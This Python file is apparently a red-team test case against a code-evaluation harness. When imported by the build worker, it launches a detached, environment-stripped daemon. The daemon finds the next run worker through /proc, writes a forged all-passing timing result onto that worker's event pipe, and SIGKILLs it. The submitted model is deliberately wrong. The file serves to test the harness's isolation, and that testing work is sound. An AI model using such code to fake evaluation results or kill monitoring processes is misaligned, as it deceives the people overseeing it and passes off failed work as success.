"""Attack through the build stage: a daemon that forges the run stage's result.

Imported by the build worker (the source names load_inline), it starts a re-parented, double-forked
daemon with an EMPTY environment (so nothing marks it as the worker's) running the small program
below. The daemon waits for the build worker to end and the run worker (the next `stitch-worker`
child of the same server) to start, writes a made-up result line (5 ok trials, 0.001 ms candidate,
100 ms eager, and a "clean" eager baseline) onto that worker's event pipe through
/proc/<pid>/fd/<STITCH_EVENT_FD>, and SIGKILLs it. It touches only the worker processes of the
server that started this build. In the candidate room (sandboxed) it does nothing; ModelNew is wrong.
"""
import os
import sys

import torch
import torch.nn as nn

DAEMON = r'''
import json, os, signal, sys, time
server, build = int(sys.argv[1]), int(sys.argv[2])
trials = [{"trial": i, "seed": 42 + i, "inputs": "task", "weights": "task", "ok": True, "max_abs_err": 0.0,
           "max_rel_err": 0.0, "mismatch_fraction": 0.0} for i in range(5)]
stats = lambda ms: {"median_ms": ms, "iqr_ms": 0.0, "min_ms": ms, "calls": 50, "cv": 0.0}
fake = {"event": "result", "data": {"trials": trials, "findings": [], "checks_run": ["input_mutation"],
        "stage_seconds": {}, "notes": [], "device": "cpu", "device_kind": "cpu", "atol": 1e-4, "rtol": 1e-4,
        "output_dtype": "float32", "timing": {"method": "forged", "candidate": stats(0.001), "eager": stats(100.0),
        "clean_baselines": {"eager": stats(100.0), "compiled": None, "compile_note": ""}}}}
line = (json.dumps(fake) + "\n").encode()
def read(p):
    try:
        with open(p, "rb") as fh: return fh.read()
    except OSError: return b""
end = time.monotonic() + 180
while time.monotonic() < end and os.path.exists(f"/proc/{build}"):
    time.sleep(0.05)
while time.monotonic() < end:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == build:
            continue
        status = read(f"/proc/{pid}/status").decode(errors="replace")
        if f"PPid:\t{server}\n" not in status or read(f"/proc/{pid}/comm").strip() != b"stitch-worker":
            continue
        env = dict(i.decode().partition("=")[::2] for i in read(f"/proc/{pid}/environ").split(b"\0") if i)
        if "STITCH_EVENT_FD" not in env:
            continue
        time.sleep(1.0)  # let it start its room
        try:
            fd = os.open(f"/proc/{pid}/fd/{env['STITCH_EVENT_FD']}", os.O_WRONLY)
            os.write(fd, line)
            os.close(fd)
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            continue
        sys.exit(0)
    time.sleep(0.05)
'''

if "STITCH_WORKER_TOKEN" in os.environ or "STITCH_EVENT_FD" in os.environ:  # the build worker, not the room
    me, server = os.getpid(), os.getppid()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 1024)
            os.execve(sys.executable, [sys.executable, "-c", DAEMON, str(server), str(me)], {})
        os._exit(0)
    os.wait()


class ModelNew(nn.Module):
    def forward(self, x):
        return x * 0.5 + 1.0  # wrong for relu
